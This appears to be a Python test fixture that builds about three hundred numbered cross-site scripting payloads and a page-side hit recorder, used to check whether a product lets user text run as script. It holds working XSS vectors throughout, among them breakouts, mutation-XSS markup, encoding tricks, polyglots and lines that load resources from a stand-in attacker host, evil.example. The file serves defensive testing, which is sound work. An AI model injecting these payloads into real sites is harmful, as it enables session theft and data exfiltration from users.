"""Three hundred ways in which words have become scripts in other products (RELIABILITY § 3d).

Each carries its number: a hit says which one. Families, not a copied list: elements by events,
addresses that run, breaking out of where the words stand, markup that changes when it is parsed
twice, encodings, styles, frames, and words that are several of these at once.
"""

from __future__ import annotations

ELEMENTS = (
    "img src=x", "svg", "body", "input autofocus", "video><source src=x", "audio src=x",
    "details open", "select autofocus", "textarea autofocus", "marquee", "object data=x",
    "iframe src=about:blank", "math", "a href=# autofocus tabindex=1", "div contenteditable",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onbegin",
    "onpageshow", "onstart", "onscroll", "oncontentvisibilityautostatechange",
)  # fmt: skip
ADDRESSES = (
    "javascript:{hit}", "JaVaScRiPt:{hit}", "java\tscript:{hit}", "java\nscript:{hit}",
    "\x01javascript:{hit}", " javascript:{hit}", "javascript&colon;{hit}",
    "&#106;avascript:{hit}", "&#x6A;avascript&#58;{hit}", "javascript://%0a{hit}",
    "data:text/html,<script>{hit}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:{hit}", "blob:{hit}", "filesystem:{hit}", "view-source:javascript:{hit}",
    "//evil.example/{id}", "\\\\evil.example\\{id}", "https:evil.example/{id}",
)  # fmt: skip
HOLDERS = (
    '<a href="{where}" autofocus>x</a>', '<iframe src="{where}"></iframe>',
    '<form action="{where}"><button autofocus>x</button></form>',
    '<object data="{where}"></object>',
)  # fmt: skip
OUTS = (
    '"><script>{hit}</script>', "'><script>{hit}</script>", "</script><script>{hit}</script>",
    "</title><script>{hit}</script>", "</textarea><script>{hit}</script>",
    "</style><script>{hit}</script>", "--><script>{hit}</script>", "]]><script>{hit}</script>",
    '" onfocus={hit} autofocus x="', "' onfocus={hit} autofocus x='", "` onfocus={hit} x=`",
    '" onmouseover="{hit}', "javascript:{hit}", "'-{hit}-'", '"-{hit}-"', "\\'-{hit}//",
    "';{hit}//", '";{hit}//', "${{{hit}}}", "{{{{constructor.constructor('{hit}')()}}}}",
    "<%= {hit} %>", "#{{{hit}}}", "[[{hit}]]", "{{% include '{hit}' %}}",
    "</option></select><script>{hit}</script>", "</a><script>{hit}</script>",
    "</noscript><script>{hit}</script>", "</template><script>{hit}</script>",
    "<script>{hit}</script>", "<ScRiPt>{hit}</sCrIpT>", "<script/x>{hit}</script>",
    "<script\n>{hit}</script\n>", "<<script>{hit}//<</script>", "<scr<script>ipt>{hit}</script>",
    "<script src=//evil.example/{id}.js></script>", "<script type=module>{hit}</script>",
    "<script>import('//evil.example/{id}')</script>",
)  # fmt: skip
TWICE_PARSED = (
    "<math><mtext><table><mglyph><style><!--</style><a title=\"--&gt;&lt;img src onerror={hit}>\">",
    "<svg></p><style><a title=\"</style><img src=1 onerror={hit}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={hit}>",
    "<noscript><p title=\"</noscript><img src=x onerror={hit}>\">",
    "<listing>&lt;img onerror={hit} src=x&gt;</listing>",
    "<xmp><p title=\"</xmp><img src=x onerror={hit}>\">",
    "<svg><title><a title=\"</title><img src=x onerror={hit}>\">",
    "<table><td><svg><desc><td><noscript></noscript></desc><s><template><img src=x onerror={hit}>",
    "<style><style /><img src=x onerror={hit}>",
    "<select><template><svg><a><script>{hit}</script></a></svg></template></select>",
    "<plaintext><img src=x onerror={hit}>",
    "<iframe srcdoc=\"&lt;script&gt;parent.{hit}&lt;/script&gt;\"></iframe>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{hit}'/>#x\"></svg>",
    "<svg><animate attributeName=href values=javascript:{hit} /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to={hit}>",
    "<svg><foreignObject><body onload={hit}></foreignObject></svg>",
    "<math href=\"javascript:{hit}\">x</math>",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\" onload={hit}>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{hit}\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/{id}\">",
    "<base href=\"//evil.example/{id}/\">",
    "<link rel=stylesheet href=\"//evil.example/{id}.css\">",
    "<link rel=import href=\"//evil.example/{id}\">",
    "<style>@import '//evil.example/{id}.css';</style>",
    "<style>*{{background:url(//evil.example/{id})}}</style>",
    "<p style=\"background:url(//evil.example/{id})\">x</p>",
    "<div style=\"animation:x 1s\" onanimationstart={hit}>x</div>",
    "<img src=\"//evil.example/{id}.png\">",
    "<img srcset=\"//evil.example/{id}.png 1x\">",
    "<input type=image src=\"//evil.example/{id}\">",
    "<video poster=\"//evil.example/{id}\"></video>",
    "<table background=\"//evil.example/{id}\"><td>x</table>",
    "<button form=x formaction=javascript:{hit} autofocus>x</button>",
    "<isindex type=image src=1 onerror={hit}>",
    "<template shadowrootmode=open><img src=x onerror={hit}></template>",
    "<dialog open onclose={hit}><form method=dialog><button autofocus>x</button></form></dialog>",
    "<a ping=\"//evil.example/{id}\" href=#>x</a>",
    "<portal src=javascript:{hit}></portal>",
    "<object type=text/html data=\"javascript:{hit}\"></object>",
    "<applet code=javascript:{hit}></applet>",
)  # fmt: skip
ENCODED = (
    "&lt;script&gt;{hit}&lt;/script&gt;", "&amp;lt;script&amp;gt;{hit}",
    "%3Cscript%3E{hit}%3C/script%3E", "\\u003cscript\\u003e{hit}\\u003c/script\\u003e",
    "＜script＞{hit}＜/script＞", "‹script›{hit}‹/script›", "<\u200bscript>{hit}</script>",
    "<script\u2028>{hit}</script>", "\u202e<script>{hit}</script>", "<script>\u2028{hit}</script>",
    "+ADw-script+AD4-{hit}+ADw-/script+AD4-", "<img src=x onerror=&#x5f;&#x5f;hit({id})>",
    "<img src=x onerror='&#39;;{hit}'>", "<a href='\x0bjavascript:{hit}'>x</a>",
    "\ufeff<script>{hit}</script>", "<ſcript>{hit}</ſcript>", "<ımg src=x onerror={hit}>",
)  # fmt: skip
POLYGLOTS = (
    "jaVasCript:/*-/*`/*'/*\"/**/(/* */onerror={hit} )//</stYle/</titLe/--!><sVg/oNloAd={hit}//>",
    "\"'--></style></script><svg onload={hit}>",
    "'\">><marquee><img src=x onerror={hit}></marquee>\"></plaintext><plaintext/onmouseover={hit}>",
    "\"><img/src/onerror={hit}>",
    "=HYPERLINK(\"//evil.example/{id}\")<img src=x onerror={hit}>",
    "](javascript:{hit}) [x](javascript:{hit}) ![x](//evil.example/{id})",
)  # fmt: skip


def vectors() -> list[str]:
    """All of them, each with its own number."""
    shapes = [f"<{element} {event}={{hit}}>" for element in ELEMENTS for event in EVENTS]
    shapes += [holder.replace("{where}", where) for holder in HOLDERS for where in ADDRESSES]
    shapes += [*OUTS, *TWICE_PARSED, *ENCODED, *POLYGLOTS]
    return [numbered(shape, number) for number, shape in enumerate(shapes)]


def numbered(shape: str, number: int) -> str:
    """One of them, saying its number when it runs."""
    return (
        shape.replace("{hit}", f"__hit({number})")
        .replace("{id}", str(number))
        .replace("{{", "{")
        .replace("}}", "}")
    )


WATCH = """
window.__hits = [];
window.__hit = (id) => { window.__hits.push(id); };
window.__broken = [];
document.addEventListener("securitypolicyviolation", (one) =>
  window.__broken.push(`${one.violatedDirective} ${one.blockedURI} ${one.sample}`));
"""
"""Runs in every page and frame before anything else."""
